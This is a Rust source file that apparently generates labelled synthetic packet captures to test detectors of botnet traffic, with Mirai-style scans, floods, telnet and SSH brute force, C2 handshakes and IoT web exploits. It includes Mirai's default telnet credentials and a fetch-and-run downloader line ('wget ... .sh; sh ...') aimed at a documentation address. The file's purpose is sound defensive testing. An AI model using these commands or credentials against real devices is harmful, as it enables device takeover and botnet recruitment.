//! A large labelled capture: every attack the detectors know, each from its own bot,
//! spread through benign background, streamed to any writer (a capture of a GiB never
//! sits in memory), with the ground truth returned beside it.

use std::io::Write;
use std::net::Ipv4Addr;

use crate::attacks::{
    ack_flood, dns_query, dns_water_torture, gre_flood, http_flood, syn_flood, udp_flood,
    vse_flood, Flood, Rng,
};
use crate::background::background;
use crate::{mirai_scan, tcp_session, Capture};

/// What BusyBox telnetd opens with and Mirai's client answers (§1.4).
const TELNETD_OPENING: &[u8] = b"\xff\xfd\x01\xff\xfd\x1f\xff\xfb\x01\xff\xfb\x03";
const MIRAI_REPLY: &[u8] =
    b"\xff\xfc\x01\xff\xfb\x1f\xff\xfa\x1f\x00\x50\x00\x18\xff\xf0\xff\xfd\x01\xff\xfd\x03";

/// (detection id, source) of every alert a perfect detector raises.
pub type Truth = Vec<(&'static str, Ipv4Addr)>;

/// The kinds of labelled attack, in the order they take turns.
pub const ATTACK_KINDS: usize = 18;

/// The SSH brute-forcers' clients, taking turns: identification line, the
/// KEXINIT's name-lists (kex, host key, ciphers, MACs, compression; the same both
/// ways) and the server port they knock on (SSH is found by its identification on
/// any port).
const SSH_CLIENTS: [(&str, [&str; 5], u16); 3] = [
    (
        "SSH-2.0-libssh2_1.11.0",
        [
            "curve25519-sha256,diffie-hellman-group14-sha1",
            "ssh-ed25519,ssh-rsa",
            "aes128-ctr,aes256-ctr",
            "hmac-sha2-256,hmac-sha1",
            "none",
        ],
        22,
    ),
    (
        "SSH-2.0-Go",
        [
            "curve25519-sha256,curve25519-sha256@libssh.org,ecdh-sha2-nistp256,diffie-hellman-group14-sha256",
            "ssh-ed25519,ecdsa-sha2-nistp256,rsa-sha2-256",
            "aes128-gcm@openssh.com,chacha20-poly1305@openssh.com,aes128-ctr",
            "hmac-sha2-256-etm@openssh.com,hmac-sha2-256,hmac-sha1",
            "none",
        ],
        2222,
    ),
    (
        "SSH-2.0-HELLOWORLD",
        [
            "diffie-hellman-group14-sha1",
            "ssh-rsa",
            "aes128-ctr",
            "hmac-sha1",
            "none",
        ],
        902,
    ),
];

/// The client an SSH brute-forcer of the mixed capture uses: (identification
/// line, server port). The ground truth for what `watch` reports of SSH clients,
/// for the first 65,536 attacks (bot addresses repeat after that).
pub fn ssh_bruteforce_client(bot: Ipv4Addr) -> (&'static str, u16) {
    let [_, _, hi, lo] = bot.octets();
    let (version, _, port) = ssh_client(u64::from(hi) << 8 | u64::from(lo));
    (version, port)
}

/// The client of the `n`th attack, if it is an SSH brute force.
fn ssh_client(n: u64) -> (&'static str, [&'static str; 5], u16) {
    let [first, second, third] = SSH_CLIENTS;
    match n / ATTACK_KINDS as u64 % 3 {
        0 => first,
        1 => second,
        _ => third,
    }
}

/// A client's clear KEXINIT packet with `lists`, after its identification.
fn ssh_kexinit(lists: &[&str; 5]) -> Vec<u8> {
    let mut payload = vec![20u8];
    payload.extend_from_slice(&[0x5a; 16]);
    let [kex, keys, ciphers, macs, comp] = *lists;
    for list in [kex, keys, ciphers, ciphers, macs, macs, comp, comp, "", ""] {
        payload.extend_from_slice(&(list.len() as u32).to_be_bytes());
        payload.extend_from_slice(list.as_bytes());
    }
    payload.extend_from_slice(&[0; 5]);
    // RFC 4253 6: at least 4 bytes of padding, the packet a multiple of 8.
    let mut padding = 8 - (payload.len() + 5) % 8;
    if padding < 4 {
        padding += 8;
    }
    let mut packet = ((payload.len() + 1 + padding) as u32)
        .to_be_bytes()
        .to_vec();
    packet.push(padding as u8);
    packet.extend_from_slice(&payload);
    packet.resize(packet.len() + padding, 0);
    packet
}

/// Writes a capture of at least `frames` frames and `attacks` labelled attacks to
/// `out`: background, with one attack every `frames / attacks` frames (kinds taking
/// turns). Returns the frames written and the ground truth: (detection id, source)
/// for every alert a perfect detector raises.
pub fn write_mixed(
    out: &mut impl Write,
    seed: u64,
    frames: u64,
    attacks: u64,
) -> std::io::Result<(u64, Truth)> {
    write_mixed_bytes(out, seed, frames, attacks, 0).map(|(frames, _, truth)| (frames, truth))
}

/// [`write_mixed`], also going on until at least `bytes` are written. Returns the
/// frames and bytes written and the ground truth.
pub fn write_mixed_bytes(
    out: &mut impl Write,
    seed: u64,
    frames: u64,
    attacks: u64,
    bytes: u64,
) -> std::io::Result<(u64, u64, Truth)> {
    let mut rng = Rng::new(seed);
    let mut cap = Capture::default();
    let mut truth = Vec::new();
    let mut t = 1_790_000_000.0;
    let per_slot = (frames / attacks.max(1)).max(1);
    let mut n = 0u64;
    let mut written = 0u64;
    while cap.frames() < frames || n < attacks || written < bytes {
        let target = cap.frames() + per_slot;
        t = background(&mut cap, &mut rng, t, per_slot / 2, 0.02);
        attack(&mut cap, &mut rng, n, t);
        n += 1;
        t += 2.0;
        let left = target.saturating_sub(cap.frames());
        t = background(&mut cap, &mut rng, t, left, 0.02);
        truth.append(&mut cap.truth);
        let chunk = cap.take_bytes();
        written += chunk.len() as u64;
        out.write_all(&chunk)?;
    }
    Ok((cap.frames(), written, truth))
}

/// The bot of the `n`th attack: 10.0.0.0/16 (the background's hosts are elsewhere).
fn bot(n: u64) -> Ipv4Addr {
    Ipv4Addr::new(10, 0, (n >> 8) as u8, (n & 0xff) as u8)
}

fn attack(cap: &mut Capture, rng: &mut Rng, n: u64, t: f64) {
    let bot = bot(n);
    let victim = Ipv4Addr::new(198, 51, 100, 1 + (n % 250) as u8);
    let flood = |packets| Flood {
        bot,
        target: victim,
        t0: t,
        packets,
        rate: 1000.0,
    };
    let port = 40_000 + (n % 20_000) as u16;
    match n % ATTACK_KINDS as u64 {
        0 => {
            let targets: Vec<Ipv4Addr> = (0..20)
                .map(|_| Ipv4Addr::from(0xc633_6400 | (rng.u32() & 0xff)))
                .collect();
            // Distinct targets: the scanner's random walk rarely repeats.
            let mut distinct = targets.clone();
            distinct.sort_unstable();
            distinct.dedup();
            mirai_scan(cap, bot, &distinct, t, true);
            // Its own resolver lookup, which corroborates.
            cap.frame(
                t,
                &dns_query(
                    bot,
                    Ipv4Addr::new(8, 8, 8, 8),
                    port,
                    rng.u16(),
                    b"report.example",
                    1,
                ),
            );
            cap.truth.push(("dns-direct-8888", bot));
        }
        1 => vse_flood(cap, rng, &flood(100)),
        2 => syn_flood(cap, rng, &flood(50)),
        3 => ack_flood(cap, rng, &flood(200)),
        4 => udp_flood(cap, rng, &flood(200)),
        5 => gre_flood(cap, rng, &flood(30), n.is_multiple_of(2)),
        6 => dns_water_torture(cap, rng, &flood(40), "victim.example"),
        7 => http_flood(cap, (bot, port), victim, t, 25, n.is_multiple_of(2)),
        8 => {
            // The loader: Mirai's client reply and its probes.
            tcp_session(
                cap,
                (bot, port),
                (victim, 23),
                &[
                    (false, TELNETD_OPENING),
                    (true, MIRAI_REPLY),
                    (false, b"\r\nlogin: "),
                    (true, b"root\r\n"),
                    (false, b"Password: "),
                    (true, b"xc3511\r\n"),
                    (false, b"\r\n# "),
                    (true, b"enable\r\nshell\r\nsh\r\n"),
                    (true, b"/bin/busybox ECCHI\r\n"),
                    (false, b"ECCHI: applet not found\r\n# "),
                    (
                        true,
                        b"/bin/busybox cat /proc/mounts; /bin/busybox ECCHI\r\n",
                    ),
                ],
                t,
            );
            cap.truth.push(("mirai-telnet-client", bot));
            cap.truth.push(("mirai-shell-content", bot));
        }
        9 => {
            let mut report = vec![0u8];
            report.extend_from_slice(&victim.octets());
            report.extend_from_slice(&23u16.to_be_bytes());
            report.push(4);
            report.extend_from_slice(b"root");
            report.push(6);
            report.extend_from_slice(b"xc3511");
            tcp_session(
                cap,
                (bot, port),
                (Ipv4Addr::new(203, 0, 113, 250), 48101),
                &[(true, &report)],
                t,
            );
            cap.truth.push(("mirai-report", bot));
        }
        10 => {
            tcp_session(
                cap,
                (bot, port),
                (Ipv4Addr::new(203, 0, 113, 251), 23),
                &[(true, &[0, 0, 0, 1]), (true, b"\x0btelnet.arm7")],
                t,
            );
            cap.truth.push(("mirai-c2-handshake", bot));
        }
        11 => {
            tcp_session(
                cap,
                (bot, port),
                (Ipv4Addr::new(203, 0, 113, 252), 80),
                &[
                    (true, b"GET /bins/mirai.arm7 HTTP/1.0\r\n\r\n"),
                    (false, b"HTTP/1.0 200 OK\r\n\r\n\x7fELF\x01\x01\x01"),
                ],
                t,
            );
            cap.truth.push(("mirai-bins-download", bot));
        }
        12 => {
            for i in 0..6u16 {
                tcp_session(
                    cap,
                    (bot, port.wrapping_add(i)),
                    (victim, 23),
                    &[
                        (false, b"login: "),
                        (true, b"admin\r\n"),
                        (false, b"Password: "),
                        (true, b"1234\r\n"),
                        (false, b"Login incorrect\r\nlogin: "),
                    ],
                    t + f64::from(i) * 0.1,
                );
            }
            cap.truth.push(("telnet-bruteforce", bot));
        }
        14 => {
            // An SSH brute-forcer: six connections, each with its identification
            // and KEXINIT, then encrypted bytes.
            let (version, lists, server_port) = ssh_client(n);
            let mut opening = format!("{version}\r\n").into_bytes();
            opening.extend(ssh_kexinit(&lists));
            for i in 0..6u16 {
                tcp_session(
                    cap,
                    (bot, port.wrapping_add(i)),
                    (victim, server_port),
                    &[
                        (false, b"SSH-2.0-OpenSSH_9.2p1 Debian-2\r\n"),
                        (true, &opening),
                        (false, &rng.bytes(300)),
                        (true, &rng.bytes(200)),
                    ],
                    t + f64::from(i) * 0.1,
                );
            }
            cap.truth.push(("ssh-bruteforce", bot));
        }
        15 => {
            // An SSH scanner: SYNs to port 22 (every tenth to 2222) of 15 hosts.
            for i in 1..=15u8 {
                let dport = if i % 10 == 0 { 2222 } else { 22 };
                let syn = crate::mirai_syn(bot, Ipv4Addr::new(192, 0, 2, i), dport, false);
                cap.frame(t + f64::from(i) / 160.0, &syn);
            }
            cap.truth.push(("ssh-scan", bot));
        }
        16 => {
            // A web exploit of the table, each in turn, carrying a downloader, and
            // the device's answer.
            let names = crate::exploits::NAMES;
            let turn = (n / ATTACK_KINDS as u64) as usize;
            let name = names
                .get(turn % names.len())
                .copied()
                .unwrap_or("jaws-shell");
            let cmd = format!("cd /tmp; wget http://203.0.113.253/{name}.sh; sh {name}.sh");
            let (dport, request) = crate::exploits::request(name, &cmd);
            tcp_session(
                cap,
                (bot, port),
                (victim, dport),
                &[
                    (true, &request),
                    (false, b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n"),
                ],
                t,
            );
            cap.truth.push(("iot-web-exploit", bot));
        }
        17 => {
            // Near misses: ordinary requests to the same services (no alert).
            let misses = crate::exploits::near_misses();
            let turn = (n / ATTACK_KINDS as u64) as usize;
            let Some((dport, request)) = misses.get(turn % misses.len()) else {
                return;
            };
            tcp_session(
                cap,
                (bot, port),
                (victim, *dport),
                &[
                    (true, request),
                    (false, b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n"),
                ],
                t,
            );
        }
        _ => {
            // A plain telnet scanner (seq is not the destination).
            let targets: Vec<Ipv4Addr> = (1..=15).map(|i| Ipv4Addr::new(192, 0, 2, i)).collect();
            mirai_scan(cap, bot, &targets, t, false);
        }
    }
}

#[cfg(test)]
mod tests {
    /// Every residue of the payload's length gets 4 to 11 bytes of padding and a
    /// packet that is a multiple of 8 (RFC 4253 6), as a real client sends it.
    #[test]
    fn kexinit_packets_are_padded_as_rfc_4253_says() {
        for extra in 0..8 {
            let kex = format!("curve25519-sha256{}", ",x".repeat(extra));
            let packet = super::ssh_kexinit(&[&kex, "ssh-rsa", "aes128-ctr", "hmac-sha1", "none"]);
            let header: Option<[u8; 5]> = packet.get(..5).and_then(|h| h.try_into().ok());
            assert!(header.is_some(), "{extra}: no header");
            let [a, b, c, d, padding] = header.unwrap_or_default();
            assert_eq!(u32::from_be_bytes([a, b, c, d]) as usize + 4, packet.len());
            assert_eq!(packet.len() % 8, 0, "{extra}");
            assert!((4..12).contains(&padding), "{extra}: {padding}");
        }
    }
}
